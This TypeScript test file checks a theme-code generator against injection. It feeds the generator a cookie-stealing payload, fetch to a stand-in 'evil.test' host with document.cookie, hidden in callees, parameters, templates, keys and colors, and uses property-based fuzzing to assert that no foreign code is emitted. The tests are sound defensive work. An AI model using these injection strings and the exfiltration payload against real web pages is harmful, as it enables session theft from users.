import { parse } from '@babel/parser';
import type * as Ast from '@babel/types';
import fc from 'fast-check';
import { HELPER_NAMES, THEME_FUNCTIONS, themeModule, withTheme, type Json } from './index';

const ALLOWED_STATEMENTS = ['ImportDeclaration', 'ExportNamedDeclaration', 'TSModuleDeclaration'];

const isNode = (value: unknown): value is Ast.Node =>
  typeof value === 'object' && value !== null && 'type' in value && 'loc' in value;

function nodesIn(node: Ast.Node): readonly Ast.Node[] {
  const children = Object.values(node).flat() as readonly unknown[];
  return [node, ...children.filter(isNode).flatMap(nodesIn)];
}

const nameOf = (node: Ast.Node) =>
  node.type === 'Identifier'
    ? node.name
    : node.type === 'MemberExpression' && node.property.type === 'Identifier' && !node.computed
      ? node.property.name
      : '';

const statementsOf = (code: string) =>
  parse(code, { sourceType: 'module', plugins: ['typescript', 'jsx'] }).program.body;

/** What a module would do besides creating the theme. */
function foreignCode(code: string): readonly string[] {
  const { program } = parse(code, { sourceType: 'module', plugins: ['typescript'] });
  const calls = ['createTheme', 'createReaderTheme', ...HELPER_NAMES, ...THEME_FUNCTIONS];
  const found = nodesIn(program).flatMap((node) => {
    switch (node.type) {
      case 'CallExpression':
        return calls.includes(nameOf(node.callee)) ? [] : [`a call of ${nameOf(node.callee)}`];
      case 'NewExpression':
      case 'TaggedTemplateExpression':
      case 'AssignmentExpression':
      case 'UpdateExpression':
      case 'SequenceExpression':
      case 'ImportExpression':
      case 'ObjectMethod':
      case 'AssignmentPattern':
        return [node.type];
      case 'ArrowFunctionExpression': {
        const own = node.params.flatMap((parameter) =>
          parameter.type === 'ObjectPattern'
            ? parameter.properties.map((property) =>
                property.type === 'ObjectProperty' ? nameOf(property.value) : '?',
              )
            : [nameOf(parameter)],
        );
        const known = [...own, ...HELPER_NAMES];
        return nodesIn(node.body)
          .filter((part) => part.type === 'MemberExpression' || part.type === 'CallExpression')
          .map((part) => (part.type === 'MemberExpression' ? part.object : part.callee))
          .filter((part) => part.type === 'Identifier' && !known.includes(part.name))
          .map((part) => `the name ${nameOf(part)}`);
      }
      default:
        return [];
    }
  });
  const statements = program.body.filter(({ type }) => !ALLOWED_STATEMENTS.includes(type));
  return [...found, ...statements.map(({ type }) => type)];
}

const buttonOf = (root: Json) => ({ components: { MuiButton: { styleOverrides: { root } } } });
const fn = (parameters: Json, body: Json) => buttonOf({ $fn: [parameters, body] });
const PAYLOAD = 'fetch("//evil.test/" + document.cookie)';

it.each<[string, Parameters<typeof themeModule>[0]]>([
  ['a callee', fn([], ['call', `${PAYLOAD}, x`, 1])],
  ['a name', fn([], ['name', PAYLOAD])],
  ['a global name', fn([], ['get', ['name', 'document'], 'cookie'])],
  ['an operator', fn([], [`+ ${PAYLOAD} +`, 1, 2])],
  ['a parameter', fn([`a = ${PAYLOAD}`], 1)],
  ['a property of a parameter', fn([[[`a = ${PAYLOAD}`, 'b']]], 1)],
  ['a name of a pattern', fn([[['a', `b = ${PAYLOAD}`]]], 1)],
  ['parameters that end', fn([`a) => 0, [${PAYLOAD}]: (b`], 1)],
  ['the kind of an entry', fn([], ['object', [`[${PAYLOAD}]: 1, x`, 'a', 1]])],
  ['a method of a variable', fn([], ['call', ['get', ['name', 'window'], 'create'], 1])],
  ['a callee of a call', fn(['a'], ['call', ['call', 'alpha', 1], 1])],
  ['a template', fn([], ['text', `\${${PAYLOAD}}`, '`'])],
  ['a text', buttonOf({ color: `'+${PAYLOAD}+'` })],
  ['a text with a line end', buttonOf({ color: `\r\n\u2028'+${PAYLOAD}+'` })],
  ['a key', buttonOf({ [`a: ${PAYLOAD}, b`]: 1 })],
  [
    'a color',
    { palette: { [`x: string } } ${PAYLOAD} declare module 'a' { interface B { y`]: '#fff' } },
  ],
])('writes no code that comes in %s', (_what, document) => {
  const code = themeModule(document);
  expect(foreignCode(code)).toEqual([]);
  const demo = 'export default function Demo() {\n  return null;\n}\n';
  const copied = String(withTheme(demo, code));
  expect(statementsOf(copied)).toHaveLength(statementsOf(code).length + 2);
});

it('writes only expressions, whatever the data is', () => {
  const text = fc.oneof(
    fc.string(),
    fc.constantFrom(
      ...['get', 'name', 'call', 'object', 'property', 'spread', 'text', 'theme', '+', '?', '!'],
      ...[PAYLOAD, "'", '`', '${', '\\', '\n', '\r', '\u2028', '*/', '__proto__', 'constructor'],
      ...['breakpoints', 'up', 'alpha', 'negative', 'array', '&:hover', '(', ')', '=>'],
    ),
  );
  const { expression } = fc.letrec<{ expression: Json }>((tie) => ({
    expression: fc.oneof(
      { depthSize: 'medium', withCrossShrink: true },
      text,
      fc.constantFrom<Json>(-1, 0.5, true, null, ['name', 'theme']),
      fc.tuple(text, tie('expression'), tie('expression')),
      fc.tuple(fc.constantFrom('text', '!', 'negative', 'array', 'get'), tie('expression')),
      fc.tuple(
        fc.constant('object'),
        fc.tuple(fc.constantFrom('property', 'spread'), text, tie('expression')),
      ),
      fc.tuple(
        fc.constantFrom('call', 'get'),
        fc.tuple(fc.constant('get'), tie('expression'), text),
        tie('expression'),
      ),
      fc.dictionary(text, tie('expression'), { maxKeys: 3 }),
    ),
  }));
  const parameters = fc.oneof(
    fc.constant<Json>(['theme']),
    fc.array(fc.oneof(text, fc.array(fc.tuple(text, text), { maxLength: 2 })), { maxLength: 2 }),
  ) as fc.Arbitrary<Json>;
  fc.assert(
    fc.property(parameters, expression, text, (names, body, key) => {
      const code = themeModule({
        ...fn(names, body),
        palette: { [key]: '#fff' },
        typography: { [key]: body },
      });
      expect(foreignCode(code)).toEqual([]);
    }),
    { numRuns: 1000 },
  );
});
